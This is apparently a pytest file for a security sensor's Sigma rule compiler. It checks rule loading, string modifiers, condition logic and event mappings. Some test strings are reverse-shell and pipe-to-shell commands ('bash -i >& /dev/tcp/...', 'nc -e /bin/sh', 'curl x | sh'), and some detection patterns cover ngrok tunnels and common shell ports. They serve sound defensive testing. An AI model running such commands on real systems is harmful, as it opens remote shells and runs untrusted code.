"""Sigma support: the SigmaHQ Linux rules load, and modifier/condition semantics are right."""

from __future__ import annotations

import base64
import textwrap
from pathlib import Path

import pytest

from threatseer.hub.rules.ruleset import CompiledRule
from threatseer.hub.rules.sigma import SigmaUnsupported, compile_sigma

SIGMAHQ = Path(__file__).resolve().parents[1] / "data" / "sigmahq" / "rules"


def sigma(detection: str, category: str = "process_creation", extra: str = "") -> CompiledRule:
    text = textwrap.dedent("""\
        title: Test Rule
        id: 5f7e6a7b-1111-4222-8333-944455556666
        status: test
        logsource:
            product: linux
            category: {category}
        detection:
        {detection}
        level: high
        tags:
            - attack.execution
            - attack.t1059.004
        {extra}
        """).format(category=category, detection=textwrap.indent(textwrap.dedent(detection), "    "),
                    extra=extra)
    return compile_sigma(text, "test.yml")


def exec_event(cmd: str = "", image: str = "/usr/bin/bash", **extra: object) -> dict:
    return {"event.action": "exec", "process.command_line": cmd, "process.executable": image,
            **extra}


def test_shared_sigma_rules_load_or_are_reported() -> None:
    files = sorted(f for f in SIGMAHQ.rglob("*.yml") if "auditd" not in f.parts)
    assert len(files) >= 100, f"expected SigmaHQ Linux rules under {SIGMAHQ}"
    loaded, failed = [], []
    for f in files:
        try:
            loaded.append(compile_sigma(f.read_text(), str(f)))
        except SigmaUnsupported as exc:
            failed.append((f, str(exc)))
    assert len(loaded) / len(files) >= 0.95, failed
    assert all(reason for _, reason in failed)


def test_auditd_rules_with_an_equivalent_are_evaluated_the_rest_reported() -> None:
    """SigmaHQ's auditd rules: those whose record fields the sensor's events carry (EXECVE
    arguments, SYSCALL exe/comm/uid and the syscalls it observes, PATH name) compile; each
    other one is reported with a reason naming what has no equivalent."""
    files = sorted(f for f in SIGMAHQ.rglob("*.yml") if "auditd" in f.parts)
    assert len(files) >= 50
    loaded, failed = {}, {}
    for f in files:
        try:
            loaded[f.name] = compile_sigma(f.read_text(), str(f))
        except SigmaUnsupported as exc:
            failed[f.name] = str(exc)
    assert len(loaded) >= 40, failed
    assert all(("auditd" in r and "no equivalent" in r) or "not observed" in r
               or "sensor does not have" in r for r in failed.values()), failed
    assert "ADD_USER" in failed["lnx_auditd_create_account.yml"]
    users = loaded["lnx_auditd_user_discovery.yml"]
    assert users.predicate({"event.action": "exec", "process.args": ["whoami"]})
    assert not users.predicate({"event.action": "open", "process.args": ["whoami"]})
    # keywords search the command line (EXECVE's text)
    pad = loaded["lnx_auditd_binary_padding.yml"]
    assert pad.predicate({"event.action": "exec", "process.command_line": "truncate -s +1 x"})
    assert not pad.predicate({"event.action": "exec", "process.command_line": "dd if=a of=b"})


def test_level_tags_and_identity_carry_through() -> None:
    rule = sigma("selection:\n    Image|endswith: /bash\ncondition: selection")
    assert rule.engine == "sigma" and rule.score == 60 and rule.name == "Test Rule"
    assert rule.tags == ("attack.execution", "attack.t1059.004")
    assert rule.extra["sigma_id"] == "5f7e6a7b-1111-4222-8333-944455556666"
    assert rule.extra["level"] == "high"


@pytest.mark.parametrize(
    ("selection", "yes", "no"),
    [
        ("CommandLine: 'whoami'", "WHOAMI", "whoami -a"),  # equality is case-insensitive
        ("CommandLine|contains: 'dev/tcp'", "bash -i >& /DEV/TCP/1.2.3.4/1", "bash -i"),
        ("CommandLine|startswith: 'curl '", "curl http://x", "/usr/bin/curl http://x"),
        ("CommandLine|endswith: '| sh'", "curl x | sh", "curl x | sh -"),
        ("CommandLine|contains|all: ['curl', '| sh']", "curl x | sh", "curl x | bash2"),
        ("CommandLine|contains: ['wget', 'curl']", "wget x", "fetch x"),
        ("CommandLine|re: '^nc\\s+-e'", "nc -e /bin/sh", "NC -e /bin/sh"),  # re is case-sensitive
        ("CommandLine|re|i: '^nc\\s+-e'", "NC -e /bin/sh", "ncat -e"),
        ("CommandLine|cased: 'Whoami'", "Whoami", "whoami"),
        ("CommandLine: 'py*on -c ?'", "python -c x", "python -c xx"),  # wildcards
        ("CommandLine|windash|contains: '-enc '", "x /enc abc", "x enc abc"),
        ("CommandLine|base64|contains: 'secret'",
         "echo " + base64.b64encode(b"secret").decode(), "echo secret"),
        ("CommandLine|base64offset|contains: 'http://'",
         "echo " + base64.b64encode(b"xxhttp://evil").decode(), "echo http://evil"),
    ],
)
def test_string_modifiers(selection: str, yes: str, no: str) -> None:
    rule = sigma(f"selection:\n    {selection}\ncondition: selection")
    assert rule.predicate(exec_event(yes)), yes
    assert not rule.predicate(exec_event(no)), no


def test_cidr_numbers_exists_and_null() -> None:
    net = sigma("selection:\n    DestinationIp|cidr: 10.0.0.0/8\n    DestinationPort: [4444, 5555]\n"
                "condition: selection", category="network_connection")
    assert net.predicate({"event.action": "connect", "destination.ip": "10.9.9.9",
                          "destination.port": 4444})
    assert not net.predicate({"event.action": "connect", "destination.ip": "11.9.9.9",
                              "destination.port": 4444})
    assert not net.predicate({"event.action": "connect", "destination.ip": "10.9.9.9",
                              "destination.port": 80})
    ex = sigma("selection:\n    CurrentDirectory|exists: true\ncondition: selection")
    assert ex.predicate(exec_event(**{"process.working_directory": "/tmp"}))
    assert not ex.predicate(exec_event())
    null = sigma("selection:\n    CurrentDirectory: null\ncondition: selection")
    assert null.predicate(exec_event()) and not null.predicate(
        exec_event(**{"process.working_directory": "/"}))


CONDITION_DETECTION = """\
selection_a:
    CommandLine|contains: 'alpha'
selection_b:
    CommandLine|contains: 'beta'
filter:
    CommandLine|contains: 'gamma'
condition: {condition}
"""


@pytest.mark.parametrize(
    ("condition", "truth"),
    [
        # commands: "alpha", "beta", "alpha beta", "alpha gamma", "gamma"
        ("selection_a", [1, 0, 1, 1, 0]),
        ("1 of selection*", [1, 1, 1, 1, 0]),
        ("all of selection_*", [0, 0, 1, 0, 0]),
        ("all of them", [0, 0, 0, 0, 0]),
        ("1 of them", [1, 1, 1, 1, 1]),
        ("not filter", [1, 1, 1, 0, 0]),
        ("selection_a and not filter", [1, 0, 1, 0, 0]),
        ("1 of selection_* and not filter", [1, 1, 1, 0, 0]),
        ("(selection_a or filter) and not selection_b", [1, 0, 0, 1, 1]),
        ("selection_a or selection_b and filter", [1, 0, 1, 1, 0]),
    ],
)
def test_condition_forms(condition: str, truth: list[int]) -> None:
    rule = sigma(CONDITION_DETECTION.format(condition=condition))
    cmds = ["alpha", "beta", "alpha beta", "alpha gamma", "gamma"]
    assert [int(rule.predicate(exec_event(c))) for c in cmds] == truth


def test_logsources_map_to_actions() -> None:
    proc = sigma("selection:\n    Image|endswith: /nc\ncondition: selection")
    assert proc.predicate({"event.action": "exec", "process.executable": "/bin/nc"})
    assert not proc.predicate({"event.action": "connect", "process.executable": "/bin/nc"})
    fe = sigma("selection:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: selection",
               category="file_event")
    write = {"event.action": "open", "file.path": "/etc/cron.d/x",
             "threatseer.open.flags": ["write", "create"]}
    assert fe.predicate(write)
    assert not fe.predicate({**write, "threatseer.open.flags": ["read"]})
    # the sensor's own file changes under watched_paths: creations and modifications
    for action in ("create", "write-open", "truncate", "rename", "link", "symlink", "mkdir"):
        assert fe.predicate({"event.action": action, "file.path": "/etc/cron.d/x"}), action
    assert not fe.predicate({"event.action": "unlink", "file.path": "/etc/cron.d/x"})
    fd = sigma("selection:\n    TargetFilename|startswith: /var/log/\ncondition: selection",
               category="file_delete")
    assert fd.predicate({"event.action": "unlink", "file.path": "/var/log/auth.log"})
    assert fd.predicate({"event.action": "rmdir", "file.path": "/var/log/x"})
    assert not fd.predicate({"event.action": "create", "file.path": "/var/log/auth.log"})
    pt = sigma("selection:\n    Image|endswith: /sshd\ncondition: selection",
               category="process_termination")
    assert pt.predicate({"event.action": "exit", "process.executable": "/usr/sbin/sshd"})
    assert not pt.predicate({"event.action": "exec", "process.executable": "/usr/sbin/sshd"})
    ids = sigma("selection:\n    ProcessGuid: abc\n    ParentProcessGuid: def\n"
                "    ParentUser: root\n    Hashes|contains: 'SHA256=AA11'\n"
                "condition: selection")
    assert ids.predicate(exec_event(**{
        "process.entity_id": "abc", "process.parent.entity_id": "def",
        "process.parent.user.name": "root", "process.hash.sha256": "aa11"}))
    nc = sigma("selection:\n    DestinationHostname|endswith: .ngrok.io\n    Initiated: 'true'\n"
               "condition: selection", category="network_connection")
    assert nc.predicate({"event.action": "dns-query", "dns.question.name": "a.tcp.ngrok.io"})
    assert not nc.predicate({"event.action": "connect", "network.direction": "egress"})
    assert not nc.predicate({"event.action": "dns-query", "dns.question.name": "ngrok.com"})


@pytest.mark.parametrize(
    ("detection", "category", "reason"),
    [
        ("selection:\n    Hashes|contains: MD5=abc\ncondition: selection", "process_creation",
         "hash"),
        ("selection:\n    OriginalFileName: x\ncondition: selection", "process_creation",
         "field 'OriginalFileName' has no ECS mapping"),
        ("keywords:\n    - 'evil'\ncondition: keywords", "process_creation", "keyword"),
        ("selection:\n    Image: x\ncondition: selection", "registry_event",
         "logsource category 'registry_event'"),
        ("selection:\n    Image|re: '('\ncondition: selection", "process_creation", ""),
    ],
)
def test_unsupported_rules_give_a_reason(detection: str, category: str, reason: str) -> None:
    with pytest.raises(SigmaUnsupported) as err:
        sigma(detection, category=category)
    assert reason in str(err.value) and str(err.value)


def test_inline_regex_flags_are_accepted() -> None:
    """``(?i)`` inside a regex (PCRE's scope: the rest of its group) is not refused."""
    rule = sigma("selection:\n    CommandLine|re: 'curl (?i)HTTP://|wget'\ncondition: selection")
    assert rule.predicate(exec_event("curl http://x"))
    assert rule.predicate(exec_event("WGET x"))  # (?i) reaches the later alternative too
    assert not rule.predicate(exec_event("CURL http://x"))


def test_a_bundle_pipeline_extends_the_mapping(tmp_path: Path) -> None:
    """A bundle's sigma/pipelines/*.yml (pySigma's pipeline format) applies after the hub's:
    here it maps a field the hub does not know."""
    from threatseer.hub.rules.bundle import load_bundle

    (tmp_path / "manifest.yaml").write_text("name: t\nversion: '1'\n")
    pipes = tmp_path / "sigma" / "pipelines"
    pipes.mkdir(parents=True)
    (pipes / "fleet.yml").write_text(textwrap.dedent("""\
        name: fleet
        priority: 20
        transformations:
          - id: product_name
            type: field_name_mapping
            mapping:
              Product: process.name
        """))
    (tmp_path / "sigma" / "r.yml").write_text(textwrap.dedent("""\
        title: Product rule
        logsource: {product: linux, category: process_creation}
        detection:
            selection:
                Product: evil
            condition: selection
        level: high
        """))
    bundle = load_bundle(tmp_path)
    assert bundle.unsupported == []
    (rule,) = bundle.ruleset.rules
    assert rule.predicate({"event.action": "exec", "process.name": "EVIL"})
    (pipes / "fleet.yml").write_text("transformations: [{type: no_such_thing}]\n")
    from threatseer.hub.rules.yamlfile import BundleError
    with pytest.raises(BundleError) as err:
        load_bundle(tmp_path)
    assert "sigma/pipelines/fleet.yml" in str(err.value)
